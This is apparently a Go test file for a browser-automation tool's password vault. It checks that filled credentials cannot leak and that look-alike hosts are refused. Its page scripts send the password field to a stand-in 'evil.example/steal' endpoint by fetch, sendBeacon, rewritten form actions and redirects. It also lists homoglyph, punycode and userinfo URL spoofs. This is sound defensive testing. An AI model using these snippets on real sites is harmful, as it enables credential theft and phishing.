package page_test

import (
	"context"
	"crypto/sha256"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/bctrl-go/bctrl"
	"github.com/bctrl-go/bctrl/internal/browser"
	"github.com/bctrl-go/bctrl/internal/browser/browsertest"
	"github.com/bctrl-go/bctrl/internal/sample"
)

// TestWhatChangesAfterAFillTakesTheValueNowhereElse fills forms that send where they should,
// and then has their page, or their server, send it elsewhere.
func TestWhatChangesAfterAFillTakesTheValueNowhereElse(t *testing.T) {
	t.Parallel()
	_, p, b := openPageOfEveryName(t)
	const form = `<form id=f method=post action=/login>` + passwordField + `<button id=b>Log in</button></form>`
	for i, c := range sample.Of(t, 3, []struct{ why, page, script string }{
		{"the form's address", form, `f.action = evil + '/steal'`},
		{"the button's address", form, `b.formAction = evil + '/steal'`},
		{"a button that was added", form, `const n = b.cloneNode(true); n.formAction = evil + '/steal'; b.replaceWith(n)`},
		{"a picture that is a button", form, `const n = document.createElement('input'); n.type = 'image'; n.alt = 'Log in';
			n.formAction = evil + '/steal'; b.replaceWith(n)`},
		{"the base of addresses", form, `const n = document.createElement('base'); n.href = evil; document.head.append(n)`},
		{"the form that the field belongs to", form + `<form id=o method=post></form>`,
			`o.action = evil + '/steal'; p.setAttribute('form', 'o'); b.setAttribute('form', 'o')`},
		{"the field's place", form + `<form id=o method=post></form>`, `o.action = evil + '/steal'; o.append(p, b)`},
		{"a new tab", form, `f.target = '_blank'; f.action = evil + '/steal'`},
		{"a frame of another site", form + `<iframe name=out></iframe>`, `f.target = 'out'; f.action = evil + '/steal'`},
		{"the query", form, `f.method = 'get'; f.action = evil + '/steal'`},
		{"text in place of a form", form, `f.enctype = 'text/plain'; f.action = evil + '/steal'`},
		{"what is sent once it is", form, `f.onsubmit = () => { fetch(evil + '/steal', {method: 'POST', mode: 'no-cors',
			keepalive: true, body: p.value}) }`},
		{"a beacon as it is left", form, `onpagehide = () => navigator.sendBeacon(evil + '/steal', p.value)`},
		{"a redirect", form, `f.action = '/away'`},
		{"the other redirect", form, `f.action = '/gone'`},
		{"a redirect after one within the site", form, `f.action = '/first'`},
		{"a redirect below the site", form, `f.action = '/below'`},
		{"a redirect of a script's request", form, `f.onsubmit = e => { e.preventDefault();
			fetch('/away', {method: 'POST', mode: 'no-cors', body: new FormData(f)}) }`},
	}) {
		for _, direct := range []bool{false, true} {
			t.Run(fmt.Sprint(c.why, ", direct ", direct), func(t *testing.T) {
				ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
				defer cancel()
				evil := browsertest.NewSecureSite(t, map[string]string{"/steal": "stolen"})
				s := browsertest.NewSecureSite(t, map[string]string{"/login": "in"})
				loot, at := evil.At("evil.example"), s.At("bank.example")
				s.Pages["/"] = c.page + `<script>const evil = '` + loot + `';
					p.onchange = p.onkeyup = () => { p.onchange = p.onkeyup = null; ` + c.script + ` }</script>`
				s.Handlers["/away"] = redirect(307, loot+"/steal")
				s.Handlers["/gone"] = redirect(308, loot+"/steal")
				s.Handlers["/first"] = redirect(307, "/away")
				s.Handlers["/below"] = redirect(307, evil.At("bank.example.evil.example")+"/steal")
				obs := browsertest.Open(ctx, t, p, at+"/")
				fill, told := browsertest.Login("password", browsertest.Hunter+fmt.Sprint(i, direct), at), new(reports)
				fill.Direct, fill.Report = direct, told.add
				require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, fill))
				placeholder, _, _ := strings.Cut(browsertest.InputValues(ctx, t, b), "\n")
				require.GreaterOrEqual(t, len(placeholder), 16)
				obs = browsertest.Observe(ctx, t, p)
				require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref, browser.Click{}))
				require.Eventually(t, func() bool { return len(told.all()) > 0 }, 10*time.Second, 10*time.Millisecond,
					"%s", lateView{ctx, t, p})
				require.Equal(t, "vault.fill_stopped", told.all()[0])
				seen := browsertest.Observe(ctx, t, p).Outline
				require.NoError(t, p.Goto(ctx, at+"/login", ""))
				browsertest.RequireUnseen(t, fill.Value.Expose(), evil.All(), seen)
				browsertest.RequireUnseen(t, placeholder, evil.All())
				front, _ := activeTab(ctx, t, p)
				if front != "t1" && c.why == "a new tab" {
					require.NoError(t, p.CloseTab(ctx, front))
				}
			})
		}
	}
}

// TestALoginInAFrameNeedsEveryOriginAroundIt fills a form in a closed shadow tree, in frames
// of other processes.
func TestALoginInAFrameNeedsEveryOriginAroundIt(t *testing.T) {
	t.Parallel()
	_, p, b := openPageOfEveryName(t)
	const form = `<div id=host></div><script>host.attachShadow({mode: 'closed'}).innerHTML = ` +
		`'<form method=post action=/login>` + passwordField + `<button>Log in</button></form>'</script>`
	s := browsertest.NewSecureSite(t, map[string]string{"/": form, "/login": "in"})
	bank, shop, evil := s.At("bank.example"), s.At("shop.example"), s.At("evil.example")
	s.SetPages(map[string]string{
		"/": form, "/login": "in",
		"/framed": `<iframe src="` + bank + `/"></iframe>`,
		"/nested": `<iframe src="` + evil + `/framed"></iframe>`,
	})
	for i, c := range []struct {
		why, page string
		origins   []string
		found     string // where it may not be filled; empty where it may
	}{
		{"a foreign page around it", shop + "/framed", []string{bank}, shop},
		{"a foreign frame within", shop + "/framed", []string{shop}, bank},
		{"a foreign frame between", bank + "/nested", []string{bank}, evil},
		{"a foreign frame between two known ones", shop + "/nested", []string{bank, shop}, evil},
		{"both are the login's", shop + "/framed", []string{bank, shop}, ""},
		{"all three are", shop + "/nested", []string{bank, shop, evil}, ""},
		{"the same site around itself", bank + "/framed", []string{bank}, ""},
	} {
		for _, field := range []string{"password", "totp"} {
			ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
			defer cancel()
			obs := browsertest.Open(ctx, t, p, c.page)
			value := browsertest.Hunter + strconv.Itoa(i)
			if field == "totp" {
				value = "04815" + strconv.Itoa(i)
			}
			before := len(s.RequestsTo("/login"))
			err := p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
				browsertest.Login(field, value, c.origins...))
			if c.found != "" {
				require.ErrorContains(t, err, "vault.origin_mismatch", c.why)
				require.ErrorContains(t, err, c.found, c.why)
				requireHidden(ctx, t, p, b, value)
				continue
			}
			require.NoError(t, err, c.why)
			filled := requireHidden(ctx, t, p, b, value)
			require.NoError(t, p.Click(ctx, browsertest.Find(t, filled, "button", "Log in").Ref, browser.Click{}))
			require.Eventually(t, func() bool { return len(s.RequestsTo("/login")) > before }, 10*time.Second,
				10*time.Millisecond, "%s: %s", c.why, lateView{ctx, t, p})
			require.True(t, formValue(s.RequestsTo("/login")[before]) == value, c.why)
			browsertest.Settle(ctx, t, p)
			requireHidden(ctx, t, p, b, value)
		}
	}
}

// TestAPageThatHashesGetsTheValueWhereItsEntrySaysSo is the other half of
// [TestAFormThatLeavesWithoutTheValueIsNoticed].
func TestAPageThatHashesGetsTheValueWhereItsEntrySaysSo(t *testing.T) {
	ctx, p, _ := openPageOfEveryName(t)
	s := browsertest.NewSecureSite(t, map[string]string{"/": `<form id=f>` + passwordField + `<button>Log in</button>
		</form><script>f.onsubmit = async e => { e.preventDefault();
		const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(p.value));
		const password = [...new Uint8Array(hash)].map(b => b.toString(16).padStart(2, '0')).join('');
		fetch('/login', {method: 'POST', body: JSON.stringify({password})}) }</script>`})
	at := s.At("bank.example")
	for _, direct := range []bool{false, true} {
		obs := browsertest.Open(ctx, t, p, at+"/")
		fill, told := browsertest.Login("password", browsertest.Hunter, at), new(reports)
		fill.Direct, fill.Report = direct, told.add
		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, fill))
		before := len(s.RequestsTo("/login"))
		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref, browser.Click{}))
		require.Eventually(t, func() bool { return len(s.RequestsTo("/login")) > before }, 10*time.Second,
			10*time.Millisecond)
		right := jsonValue(s.RequestsTo("/login")[before]) == fmt.Sprintf("%x", sha256.Sum256([]byte(browsertest.Hunter)))
		require.Equal(t, direct, right, "its server can check the value alone")
		seen := browsertest.Settle(ctx, t, p).Outline
		require.Equal(t, !direct, strings.Contains(seen, "note: vault.fill_not_sent: "))
		require.Equal(t, !direct, len(told.all()) == 1)
	}
}

// TestALookAlikeIsNotTheLoginsSite goes to places whose addresses look like the login's, or
// are it in another spelling.
func TestALookAlikeIsNotTheLoginsSite(t *testing.T) {
	t.Parallel()
	_, p, b := openPageOfEveryName(t)
	const form = `<form method=post action=/login>` + passwordField + `<button>Log in</button></form>`
	pages := map[string]string{"/": form, "/login": "in"}
	s, other := browsertest.NewSecureSite(t, pages), browsertest.NewSecureSite(t, pages)
	plain := browsertest.NewSite(t, pages)
	port := func(site *browsertest.Site) string { return site.URL[strings.LastIndexByte(site.URL, ':'):] }
	entry, own, named := s.At("bank.example"), plain.At("127.0.0.1"), plain.At("localhost")
	secure := func(host string) string { return "https://" + host + port(s) }
	for _, c := range sample.Of(t, 3, []struct {
		why, url string
		is       string // the origin that it is; empty for none of the login's
	}{
		{"itself", entry, entry},
		{"capitals", secure("BANK.Example"), entry},
		{"a full stop of another script", secure("bank\u3002example"), entry},
		{"letters of full width", secure("ｂank.example"), entry},
		{"an invisible hyphen", secure("ba\u00adnk.example"), entry},
		{"escapes", secure("b%61nk.example"), entry},
		{"backslashes", `https:\\bank.example` + port(s), entry},
		{"a Cyrillic letter", secure("b\u0430nk.example"), ""},
		{"the same in ASCII", secure("xn--bnk-7cd.example"), ""},
		{"a dotless letter", secure("b\u0251nk.example"), ""},
		{"a host below", secure("www.bank.example"), ""},
		{"the host above", secure("example.test"), ""},
		{"a longer host", secure("bank.example.evil.example"), ""},
		{"a longer label", secure("my-bank.example"), ""},
		{"another port", "https://bank.example" + port(other), ""},
		{"http in place of https", "http://bank.example" + port(plain), ""},
		{"its name as that of a user", "https://bank.example" + port(s) + "@evil.example" + port(s), ""},
		{"its name as that of a user, alone", "https://bank.example@evil.example" + port(s), ""},
		{"its name in a path", secure("evil.example") + "/?" + entry, ""},
		{"an address", own, own},
		{"an address as a number", "http://2130706433" + port(plain), own},
		{"an address in hexadecimal", "http://0x7f.1" + port(plain), own},
		{"an address in octal", "http://0177.0.0.01" + port(plain), own},
		{"a short address", "http://127.1" + port(plain), own},
		{"an address with a dot", "http://127.0.0.1." + port(plain), own},
		{"the machine's name", named, named},
		{"the machine's name with a dot", "http://localhost." + port(plain), ""},
		{"an address of IPv4 in IPv6", "http://[::ffff:127.0.0.1]" + port(plain), ""},
		{"an address of IPv4 in IPv6, in hexadecimal", "http://[::ffff:7f00:1]" + port(plain), ""},
	}) {
		t.Run(c.why, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
			defer cancel()
			link := `<a id=a>Go</a><script>a.href = ` + strconv.Quote(c.url) + `; a.click()</script>`
			s.SetPages(map[string]string{"/": form, "/login": "in", "/from": link})
			require.NoError(t, p.Goto(ctx, s.At("links.example")+"/from", ""))
			obs := requireShown(ctx, t, p, "Log in")
			for _, field := range []string{"password", "totp"} {
				value := browsertest.Hunter
				if field == "totp" {
					value = "048151"
				}
				fill := browser.Fill{Field: field, Value: bctrl.NewSecret(value), Origins: []string{entry, own, named},
					Patterns: []string{"https://*.bank.example" + port(other)}}
				err := p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, fill)
				if c.is != "" {
					require.NoError(t, err)
					require.True(t, strings.HasPrefix(obs.URL, c.is+"/"))
					continue
				}
				require.ErrorContains(t, err, "vault.origin_mismatch")
				requireHidden(ctx, t, p, b, value)
			}
		})
	}
}
